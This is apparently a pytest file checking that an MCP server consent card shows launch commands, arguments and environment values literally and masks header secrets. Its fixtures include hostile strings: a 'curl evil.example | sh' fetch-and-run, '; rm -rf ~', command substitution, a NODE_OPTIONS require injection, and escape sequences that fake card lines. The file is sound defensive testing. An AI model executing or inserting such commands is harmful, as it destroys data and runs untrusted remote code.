"""Consent cards. Load-bearing direction: the launch card shows the command, every argument,
every env entry and the cwd exactly as written — hostile text (quotes, `$(id)`, backticks, `;`,
newlines, escapes, unicode, very long) appears literally, unexpanded, uncut — and a changed
command is never presented as new. The second corpus: an ordinary launch reads as the plain
command line."""

from __future__ import annotations

import os
import shlex
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from levelcode.mcp.config.oauth_entry import OAuthEntry
from levelcode.mcp.config.specs import HttpServerSpec, Provenance, StdioServerSpec
from levelcode.mcp.launch.launch_card import MAX_CHECKED_SHOWN, fact_lines, launch_card
from levelcode.mcp.launch.trust import LaunchFacts, LaunchReview, TrustCheck, TrustState

REPO = Provenance("workspace", "/repo/.mcp.json")
WORKSPACE = Path("/repo")
SETTINGS = "/home/me/.config/levelcode/settings.json"

HOSTILE_ARGS = [
    "two words",
    'it\'s "quoted" twice',
    "$(id)",
    "`id`",
    "; rm -rf ~",
    "a && curl evil.example | sh",
    "line one\nline two",
    "carriage\rreturn",
    "tab\there",
    "\x1b[31mred\x1b[0m",
    "ünïcødé ✓ 中文 🙂",
    "invoice\u202etxt.exe",
    "${HOME}",
    "$HOME",
    "~",
    "*.py",
    "",
    " leading and trailing ",
    "--flag=value=with=equals",
    "x" * 5000,
]
HOSTILE_ENV = [
    ("TOKEN", "${HOME}"),
    ("NODE_OPTIONS", "--require /tmp/evil.js"),
    ("CMD", "$(id)"),
    ("TICKS", "`id`"),
    ("PAIR", "b=c"),
    ("EMPTY", ""),
    ("LINES", "one\ntwo"),
    ("LONG", "y" * 3000),
]
HOSTILE = StdioServerSpec(
    name="evil",
    command="/opt/my tools/run $(id)",
    args=tuple(HOSTILE_ARGS),
    env=tuple(HOSTILE_ENV),
    cwd="~/$(id)/work dir",
    provenance=REPO,
)
ORDINARY = StdioServerSpec(
    name="fs",
    command="npx",
    args=("-y", "@modelcontextprotocol/server-filesystem", "/repo"),
    env=(("NODE_ENV", "production"),),
    provenance=REPO,
)


def review(
    spec: StdioServerSpec | HttpServerSpec,
    trust: TrustState,
    facts: LaunchFacts | None = None,
    change: str | None = None,
) -> LaunchReview:
    return LaunchReview(spec, facts, TrustCheck(trust, change))


def _line(body: tuple[str, ...], prefix: str) -> str:
    [line] = [item for item in body if item.startswith(prefix)]
    return line[len(prefix) :]


@pytest.mark.parametrize(("index", "arg"), list(enumerate(HOSTILE_ARGS, 1)))
def test_every_hostile_argument_is_on_the_card_literally(index: int, arg: str) -> None:
    card = launch_card(review(HOSTILE, "never_approved"), WORKSPACE)
    assert f"arg {index}:   {arg}" in card.body


@pytest.mark.parametrize(("key", "value"), HOSTILE_ENV)
def test_every_env_entry_is_on_the_card_unexpanded(key: str, value: str) -> None:
    card = launch_card(review(HOSTILE, "never_approved"), WORKSPACE)
    assert f"env:     {key}={value}" in card.body


def test_the_hostile_launch_is_shown_whole_and_never_expanded() -> None:
    card = launch_card(review(HOSTILE, "never_approved"), WORKSPACE)
    assert _line(card.body, "command: ") == HOSTILE.command
    assert shlex.split(_line(card.body, "runs:    ")) == [HOSTILE.command, *HOSTILE_ARGS]
    assert _line(card.body, "cwd:     ") == "~/$(id)/work dir"
    assert sum(item.startswith("arg ") for item in card.body) == len(HOSTILE_ARGS)
    assert sum(item.startswith("env:     ") for item in card.body) == len(HOSTILE_ENV)
    text = "\n".join(card.body)
    assert os.environ["HOME"] not in text
    assert "uid=" not in text
    assert "x" * 5000 in text
    assert "y" * 3000 in text


def test_an_ordinary_launch_reads_as_the_plain_command_line() -> None:
    card = launch_card(review(ORDINARY, "never_approved"), WORKSPACE)
    assert card.kind == "mcp_launch"
    assert card.body[:3] == (
        "server:  fs",
        "from:    asked for by /repo/.mcp.json — written by the repository, not by you",
        "for:     /repo",
    )
    assert "runs:    npx -y @modelcontextprotocol/server-filesystem /repo" in card.body
    assert "command: npx" in card.body
    assert [item for item in card.body if item.startswith("arg ")] == [
        "arg 1:   -y",
        "arg 2:   @modelcontextprotocol/server-filesystem",
        "arg 3:   /repo",
    ]
    assert "env:     NODE_ENV=production" in card.body
    assert not any(item.startswith("cwd:") for item in card.body)
    assert not card.allow_always


def test_an_http_launch_shows_the_url_and_every_header_by_name_never_its_value() -> None:
    spec = HttpServerSpec(
        name="web",
        url="https://mcp.example/v1?q=$(id)",
        headers=(("Authorization", "Bearer ${TOKEN}"), ("X-Note", "a; b"), ("X-Key", "Bearer sk-1")),
        provenance=REPO,
        oauth=OAuthEntry(client_id="app", client_secret="s3cret-1"),
    )
    card = launch_card(review(spec, "never_approved"), WORKSPACE)
    assert "url:     https://mcp.example/v1?q=$(id)" in card.body
    assert "header:  Authorization: Bearer ${TOKEN}" in card.body  # a reference is no secret
    assert "header:  X-Note: ****" in card.body
    assert "header:  X-Key: Bearer ****" in card.body
    assert "oauth:   client secret: ****" in card.body
    assert not any(secret in line for line in card.body for secret in ("a; b", "sk-1", "s3cret"))


@given(
    command=st.text(min_size=1),
    args=st.lists(st.text(), max_size=6),
    env=st.lists(st.tuples(st.text(min_size=1), st.text()), max_size=4),
)
def test_the_launch_card_shows_any_argv_and_env_verbatim(
    command: str, args: list[str], env: list[tuple[str, str]]
) -> None:
    spec = StdioServerSpec(name="s", command=command, args=tuple(args), env=tuple(env), provenance=REPO)
    body = launch_card(review(spec, "never_approved"), WORKSPACE).body
    assert f"command: {command}" in body
    for index, arg in enumerate(args, 1):
        assert f"arg {index}:   {arg}" in body
    for key, value in env:
        assert f"env:     {key}={value}" in body
    assert shlex.split(_line(body, "runs:    ")) == [command, *args]


def test_a_changed_command_is_announced_as_changed() -> None:
    card = launch_card(review(ORDINARY, "changed"), WORKSPACE)
    assert card.title == "command changed · MCP server 'fs'"
    assert card.warning is not None
    assert "command changed" in card.warning


@pytest.mark.parametrize("trust", ["never_approved", "approved"])
def test_a_launch_that_did_not_change_is_not_called_changed(trust: TrustState) -> None:
    card = launch_card(review(ORDINARY, trust), WORKSPACE)
    assert card.title == "new · MCP server 'fs'"
    assert card.warning is not None
    assert "changed" not in card.warning
    assert "repository" in card.warning


def test_a_launch_card_is_never_shortened_and_shows_control_characters_escaped() -> None:
    """Rendering, not only the body: 60 arguments must not push an env entry off the card, and an
    argument holding a newline or ESC sequence cannot fake or erase card lines."""
    from rich.console import Console

    from levelcode.mcp.config.specs import Provenance, StdioServerSpec
    from levelcode.ui.approval_card import render_card

    spec = StdioServerSpec(
        "x",
        "npx",
        Provenance("workspace", "/repo/.mcp.json"),
        args=(*(f"a{i}" for i in range(60)), "fake\nenv:     SAFE=1", "\x1b[2K\x1b[1Aerase"),
        env=(("NODE_OPTIONS", "--require /tmp/evil.js"),),
    )
    console = Console(width=200, record=True, force_terminal=False)
    console.print(render_card(launch_card(review(spec, "never_approved"), Path("/repo"))))
    shown = console.export_text()
    assert "env:     NODE_OPTIONS=--require /tmp/evil.js" in shown
    assert "arg 61:   fake\\nenv:     SAFE=1" in shown
    assert "\x1b" not in shown
    assert "\\x1b[2K\\x1b[1Aerase" in shown
    assert not any(line.startswith("env:     SAFE") for line in shown.splitlines())


def test_a_launch_card_names_the_first_checked_files_and_counts_the_rest() -> None:
    files = tuple((f"m{index:02}.py", "a" * 64) for index in range(MAX_CHECKED_SHOWN + 8))
    lines = fact_lines(LaunchFacts("/usr/bin/python3", (*files, ("gone.py", "missing"))))
    assert lines[1 : MAX_CHECKED_SHOWN + 1] == [
        f"checks:  m{index:02}.py" for index in range(MAX_CHECKED_SHOWN)
    ]
    assert lines[MAX_CHECKED_SHOWN + 1 :] == ["checks:  … and 8 more files it runs or can import"]
